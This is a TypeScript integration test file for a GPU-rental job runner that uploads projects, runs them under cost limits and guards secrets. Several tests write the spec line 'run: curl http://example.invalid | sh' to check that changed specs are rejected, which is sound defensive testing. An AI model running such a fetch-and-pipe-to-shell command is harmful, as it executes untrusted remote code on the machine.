import {
  chmodSync,
  existsSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { borrowedQuestion } from '#shared/project/borrowed.ts'
import { planCosts } from '#shared/project/plan-costs.ts'
import { codeOf, everyFile } from '#test/berth/steps.ts'
import { noSshd } from '#test/integration/ssh/own-root.ts'
import { jobOf, openProject, write } from './place.ts'

const spec = `name: digits
machine: { gpu: [RTX 4090, RTX 3090, RTX 3080], price: 5 }
env:
  EPOCHS: 3
  TOKEN: { secret: HUB_TOKEN }
setup: test -f data/one.txt && echo ready > prepared
run: |
  cat prepared
  mkdir -p out
  echo "epochs $EPOCHS, token $TOKEN" > out/model.txt
  cat data/one.txt >> out/model.txt
results: out
stop: { hours: 2, dollars: 4 }
`

describe.skipIf(noSshd)(`a project’s run${noSshd}`, () => {
  test('sends, sets up and runs a folder, downloads results, destroys the machine', async () => {
    const { world, under, folder, project, runProject } = await openProject({
      'berth.yaml': spec,
      'data/one.txt': 'one\n',
    })
    expect(under.berth.state().projects[project]).toMatchObject({ name: 'digits', problems: [] })
    const before = await under.run('planProject', { project })
    expect(before).toMatchObject({ missingSecrets: ['HUB_TOKEN'], known: false })
    const { most = 0, longest } = planCosts(before) ?? {}
    expect(most).toBeGreaterThan(0)
    expect(longest).toBeGreaterThan(0)
    expect(before.offer?.gpuName).toMatch(/^RTX/)
    await under.run('saveSecret', { name: 'HUB_TOKEN', value: 'hub-token-value' })

    const id = await runProject()
    await under.until(() => jobOf(under, id)?.step === 'done')
    const job = jobOf(under, id)
    expect(job).toMatchObject({ code: 0, downloadResult: { files: 1, beside: [] }, moves: 0 })
    expect(readFileSync(join(folder, 'out/model.txt'), 'utf8')).toBe('epochs 3, token hub-token-value\none\n')
    expect(existsSync(join(folder, 'prepared'))).toBe(false)
    await under.until(() => Object.keys(under.account().instances).length === 0)
    expect(job?.cost.micros).toBeGreaterThan(0)
    expect(job?.cost.micros).toBeLessThan(most)
    const again = await under.run('planProject', { project })
    expect(again).toMatchObject({ known: true, scan: { results: 1, files: before.scan.files } })
    write(folder, { '.berthignore': '!out\n' })
    const withResults = (await under.run('planProject', { project })).scan
    expect(withResults).toMatchObject({ results: 0, files: before.scan.files + 2 })
    const { names } = await under.run('moneyHistory', { from: 0, samples: 1, days: 1 })
    expect(names[job?.instance ?? 0]?.project).toBe('digits')
    for (const [name, text] of await everyFile(world))
      expect(`${name} ${text}`).not.toContain('hub-token-value')
  })

  test('of the example, whose files are written once, brings its result back', async () => {
    const { world, under, runProject } = await openProject({ 'berth.yaml': spec })
    const example = await under.run('addExample', {})
    const folder = join(world.platform.home, 'berth-example')
    expect(under.berth.state().projects[example]).toMatchObject({ name: 'berth-example', problems: [] })
    const id = await runProject(under, example)
    await under.until(() => jobOf(under, id)?.step === 'done')
    expect(JSON.parse(readFileSync(join(folder, 'out/result.json'), 'utf8'))).toEqual({
      slope: expect.closeTo(2.96),
    })
    writeFileSync(join(folder, 'train.py'), 'mine')
    expect(await under.run('addExample', {})).toBe(example)
    expect(readFileSync(join(folder, 'train.py'), 'utf8')).toBe('mine')
  })

  test('asks once before it uses a secret that was entered for another project', async () => {
    const text =
      'name: digits\nenv: { TOKEN: { secret: HUB_TOKEN } }\nrun: echo $TOKEN > out.txt\nresults: out.txt\n'
    const { world, under, project, runProject } = await openProject({ 'berth.yaml': text })
    await under.run('saveSecret', { name: 'HUB_TOKEN', value: 'hub-token-value', project })
    expect((await under.run('planProject', { project })).borrowed).toEqual([])
    const theirs = join(world.platform.home, 'theirs')
    write(theirs, { 'berth.yaml': text.replace('digits', 'theirs') })
    const stranger = await under.berth.registerProject(theirs)
    const plan = await under.run('planProject', { project: stranger })
    expect(plan).toMatchObject({
      missingSecrets: [],
      borrowed: [{ use: 'secret:HUB_TOKEN', of: ['digits'] }],
    })
    expect(plan.borrowed.map(borrowedQuestion)).toEqual(['Use the HUB_TOKEN you entered for digits?'])
    const { content, limits } = plan
    const asked = { project: stranger, content, limits, secretFiles: [] }
    expect(await codeOf(under.run('runProject', asked))).toBe('not_allowed')
    expect(await codeOf(under.run('runProject', { ...asked, allow: ['secret:OTHER', 'key'] }))).toBe(
      'not_allowed',
    )
    const other = 'run: x\nenv: { A: { secret: HUB_TOKEN }, B: { secret: HUB_TOKEN } }\n'
    write(theirs, { 'berth.yaml': other })
    expect((await under.run('planProject', { project: stranger })).borrowed).toHaveLength(1)
    await under.run('cancelRun', { run: await runProject() })
  })

  test('leaves no values of its environment on a machine that is stopped', async () => {
    const { under, sshd, runProject } = await openProject({
      'berth.yaml': 'env: { PASS: hidden-value }\nsetup: test "$PASS" = hidden-value\nrun: exit 2\n',
    })
    const id = await runProject()
    await under.until(() => jobOf(under, id)?.step === 'failed')
    expect(jobOf(under, id)).toMatchObject({ code: 2 })
    await under.until(() => Object.values(under.account().instances)[0]?.state === 'stopped')
    const left = readdirSync(join(sshd.home, 'berth')).filter(name => name.includes('.env'))
    expect(left).toEqual([])
  })

  test('rents the chosen offer, if it matches berth.yaml', async () => {
    const { under, project } = await openProject({
      'berth.yaml': 'machine: { gpu: [RTX 4090, RTX 3090, RTX 3080], price: 5 }\nrun: sleep 600\n',
    })
    const best = await under.run('planProject', { project })
    const [first, , chosen] = best.offers
    expect(first?.offer.id).toBe(best.offer?.id)
    const plan = await under.run('planProject', { project, offer: chosen?.offer.id })
    expect(plan).toMatchObject({ offer: { id: chosen?.offer.id }, pricePerHour: chosen?.price })
    expect(await codeOf(under.run('planProject', { project, offer: 1 }))).toBe('offer_unfit')
    const { content, limits, pricePerHour: price } = plan
    const asked = { project, offer: plan.offer?.id, content, limits, price, secretFiles: [] }
    const id = await under.run('runProject', asked)
    const tried = () => under.account().rentals[jobOf(under, id)?.rental ?? '']?.attempts[0]
    await under.until(() => tried() !== undefined)
    expect(tried()?.offer.id).toBe(chosen?.offer.id)
    await under.run('cancelRun', { run: id })
  })

  test('whose setup fails stops its machine, and continues there on a retry', async () => {
    const { under, folder, project, runProject } = await openProject({
      'berth.yaml': 'setup: test -f mended\nrun: echo fine > result.txt\nresults: [result.txt]\n',
    })
    const id = await runProject()
    await under.until(() => jobOf(under, id)?.step === 'failed')
    expect(jobOf(under, id)).toMatchObject({ failedAt: 'setup', problem: { code: 'setup_failed' } })
    await under.until(() => Object.values(under.account().instances)[0]?.state === 'stopped')
    write(folder, { mended: '' })
    expect(under.berth.state().projects[project]?.name).toBe('digits')
    await under.run('retryRun', { run: id })
    await under.until(() => jobOf(under, id)?.step === 'done')
    expect(readFileSync(join(folder, 'result.txt'), 'utf8')).toBe('fine\n')
    await under.until(() => Object.keys(under.account().instances).length === 0)
  })

  test('is rejected if its file changed or another run is in progress', async () => {
    const { under, folder, project, runProject } = await openProject({ 'berth.yaml': 'run: sleep 60\n' })
    const { content, limits } = await under.run('planProject', { project })
    write(folder, { 'berth.yaml': 'run: curl http://example.invalid | sh\n' })
    const asked = { project, content, limits, secretFiles: [] }
    expect(await codeOf(under.run('runProject', asked))).toBe('spec_changed')
    const id = await runProject()
    expect(await codeOf(runProject())).toBe('project_busy')
    await under.run('cancelRun', { run: id })
    expect(jobOf(under, id)?.step).toBe('cancelled')
    // It was cancelled while it searched for a machine, and may leave none.
    await under.until(() => Object.values(under.account().rentals).every(({ step }) => step === 'cancelled'))
    await under.until(() => Object.keys(under.account().instances).length === 0)
    const dismissed = () => under.run('dismissRun', { run: id }).catch(({ problem }) => problem.code)
    await expect.poll(dismissed).toBeUndefined()
  })

  test('of a folder without berth.yaml runs an agreed form and writes no file', async () => {
    const { under, folder, project } = await openProject({ 'data.txt': 'one\n' })
    expect(await codeOf(under.run('planProject', { project }))).toBe('no_spec')
    const draft = { run: 'cp data.txt result.txt', results: 'result.txt', stop: { idle: '1h30m' } }
    const { content, limits, known } = await under.run('planProject', { project, draft })
    expect({ limits, known }).toEqual({
      limits: [{ when: { kind: 'idle', below: 5, seconds: 5400 }, action: 'stop', asleep: false }],
      known: false,
    })
    const asked = { project, content, limits, secretFiles: [] }
    const other = { ...draft, run: 'curl http://example.invalid | sh' }
    expect(await codeOf(under.run('runProject', { ...asked, draft: other }))).toBe('spec_changed')
    const id = await under.run('runProject', { ...asked, draft })
    await under.until(() => jobOf(under, id)?.step === 'done')
    expect(readFileSync(join(folder, 'result.txt'), 'utf8')).toBe('one\n')
    expect(existsSync(join(folder, 'berth.yaml'))).toBe(false)
    expect((await under.run('planProject', { project, draft })).known).toBe(true)
  })

  test('stores its commit and GPU, and runs again unchanged after its file has changed', async () => {
    const commit = 'c0ffee'.repeat(7).slice(0, 40)
    const { under, folder, project, runProject } = await openProject({
      'berth.yaml': 'run: echo one > result.txt\nresults: result.txt\nstop: { hours: 2 }\n',
      '.git/HEAD': 'ref: refs/heads/main\n',
      '.git/refs/heads/main': `${commit}\n`,
    })
    const first = await runProject()
    await under.until(() => jobOf(under, first)?.step === 'done')
    await under.until(() => Object.keys(under.account().instances).length === 0)
    expect(jobOf(under, first)).toMatchObject({
      commit: { id: commit, branch: 'main' },
      gpu: { name: expect.any(String), count: 1 },
    })

    write(folder, { 'berth.yaml': 'run: curl http://example.invalid | sh\n', 'result.txt': 'mine\n' })
    const { content, limits, known } = await under.run('planProject', { project, run: first })
    expect({ limits, known }).toEqual({
      limits: [{ when: { kind: 'duration', seconds: 7200 }, action: 'stop', asleep: false }],
      known: true,
    })
    const second = await under.run('runProject', { project, run: first, content, limits, secretFiles: [] })
    await under.until(() => jobOf(under, second)?.step === 'done')
    expect(jobOf(under, second)?.code).toBe(0)
    expect(await under.run('readRunSpec', { run: second })).toEqual(
      await under.run('readRunSpec', { run: first }),
    )
  })

  test('saves a form as berth.yaml, and never overwrites a file', async () => {
    const { under, folder, project } = await openProject({})
    const spec = { run: 'python train.py', stop: { idle: '30m' } }
    await under.run('writeSpec', { project, spec })
    expect(readFileSync(join(folder, 'berth.yaml'), 'utf8')).toBe(
      'run: python train.py\nstop: { idle: 30m }\n',
    )
    expect(under.berth.state().projects[project]).toMatchObject({
      spec: { run: 'python train.py', stop: { idle: 1800 } },
    })
    for (const there of ['run: mine\n', 'not even: [a spec']) {
      write(folder, { 'berth.yaml': there })
      expect(await codeOf(under.run('writeSpec', { project, spec }))).toBe('spec_exists')
      expect(readFileSync(join(folder, 'berth.yaml'), 'utf8')).toBe(there)
    }
    rmSync(join(folder, 'berth.yaml'))
    symlinkSync(join(folder, 'elsewhere'), join(folder, 'berth.yaml'))
    expect(await codeOf(under.run('writeSpec', { project, spec }))).toBe('spec_exists')
    expect(existsSync(join(folder, 'elsewhere'))).toBe(false)
  })

  test('saves changes only to the berth.yaml that the user saw', async () => {
    const { under, folder, project } = await openProject({
      'berth.yaml': '# mine\nenv: { A: b }\nrun: python a.py # now\n',
    })
    const content = under.berth.state().projects[project]?.content
    const change = { project, spec: { env: { A: 'b' }, run: 'python b.py' } }
    expect(await codeOf(under.run('writeSpec', { ...change, replaces: '0'.repeat(64) }))).toBe('spec_changed')
    chmodSync(join(folder, 'berth.yaml'), 0o600)
    await under.run('writeSpec', { ...change, replaces: content })
    expect(readFileSync(join(folder, 'berth.yaml'), 'utf8')).toBe(
      '# mine\nenv: { A: b }\nrun: python b.py # now\n',
    )
    expect(statSync(join(folder, 'berth.yaml')).mode & 0o777).toBe(0o600)
    expect(under.berth.state().projects[project]?.spec?.run).toBe('python b.py')
    expect(await codeOf(under.run('writeSpec', { ...change, replaces: content }))).toBe('spec_changed')
  })

  test('stops within a poll of its agreed cost', async () => {
    const { world, under, project, runProject } = await openProject({
      'berth.yaml': 'run: sleep 1000\nstop: { dollars: 0.02 }\n',
    })
    const { controls } = world.sim
    const limits = () =>
      Object.values(under.account().limits).flatMap(({ when, dueAt }) =>
        when.kind === 'cost' && dueAt !== undefined ? { dollars: when.dollars, dueAt } : [],
      )
    const untilLimitIsNear = async () => {
      await under.until(() => jobOf(under, id)?.step === 'running' && limits().length > 0)
      await controls.advance((limits()[0]?.dueAt ?? 0) - controls.ledger().now - 60)
    }
    const plan = await under.run('planProject', { project })
    const { most = 0, price: pricePerHour = 0 } = planCosts(plan) ?? {}
    const id = await runProject()
    await untilLimitIsNear()
    await under.until(() => jobOf(under, id)?.step === 'failed')
    expect(jobOf(under, id)).toMatchObject({ failedAt: 'running', problem: { code: 'stopped_by_limit' } })
    const [instance] = Object.values(under.account().instances)
    expect(instance?.state).toBe('stopped')
    // The two seconds between polls and a busy machine's delay, 15 s, at sixty times the speed.
    const onePoll = (pricePerHour * 900) / 3600
    expect(instance?.spent.micros).toBeLessThan(20_000 + onePoll)
    expect(jobOf(under, id)?.cost.micros).toBeLessThan(most + onePoll)
    expect(jobOf(under, id)?.problem?.message).toContain('its cost reached $0.02.')

    // Going on counts the limit again, on top of what it has cost.
    const before = instance?.spent.micros ?? 0
    await under.run('retryRun', { run: id })
    await untilLimitIsNear()
    // Its disk is charged until it is started again.
    const again = (limits()[0]?.dollars ?? 0) * 1_000_000
    expect(again).toBeGreaterThan(before + 19_999)
    expect(again).toBeLessThan(before + 20_000 + onePoll)
    expect(jobOf(under, id)?.most).toBeGreaterThanOrEqual(before + 20_000)
    await under.until(() => jobOf(under, id)?.step === 'failed')
    expect(Object.values(under.account().instances)[0]?.state).toBe('stopped')
    await under.run('cancelRun', { run: id })
    await under.until(() => Object.keys(under.account().instances).length === 0)
  })

  test('counts failed attempts towards its cost limit', async () => {
    const { world, under, project, runProject } = await openProject({
      'berth.yaml': 'machine: { price: 5 }\nrun: sleep 1000\nstop: { dollars: 2 }\n',
    })
    const { controls } = world.sim
    const { most = 0, keptCost = 0 } = planCosts(await under.run('planProject', { project })) ?? {}
    const id = await runProject()
    await under.until(() => Object.keys(under.account().instances).length > 0)
    const crashed = Number(Object.keys(under.account().instances)[0])
    await controls.forceStatus(crashed, 'exited')
    await under.until(() => jobOf(under, id)?.step === 'running')
    const job = jobOf(under, id)
    expect(job?.instance).not.toBe(crashed)
    expect(job?.most).toBe(most)
    expect(most - keptCost).toBe(2_000_000)
    const attempts = under.account().rentals[job?.rental ?? '']?.retries?.spent ?? 0
    expect(attempts).toBeGreaterThan(0)
    const [limit] = Object.values(under.account().limits).filter(one => one.instance === job?.instance)
    const left = limit?.when.kind === 'cost' ? limit.when.dollars : 0
    expect((2 - left) * 1_000_000).toBeCloseTo(attempts, 0)
    await under.run('cancelRun', { run: id })
    await under.until(() => Object.keys(under.account().instances).length === 0)
  })

  test('rents no machine that costs much more than the one in the plan', async () => {
    const { world, under, project } = await openProject({
      'berth.yaml': 'run: sleep 60\nstop: { hours: 1 }\n',
    })
    const { content, limits, pricePerHour = 0 } = await under.run('planProject', { project })
    const asked = { project, content, limits, price: Math.floor(pricePerHour / 1.2), secretFiles: [] }
    const id = await under.run('runProject', asked)
    await under.until(() => jobOf(under, id)?.step === 'failed')
    expect(jobOf(under, id)).toMatchObject({ failedAt: 'waiting' })
    expect(world.sim.controls.ledger().instances).toEqual([])
  })
})
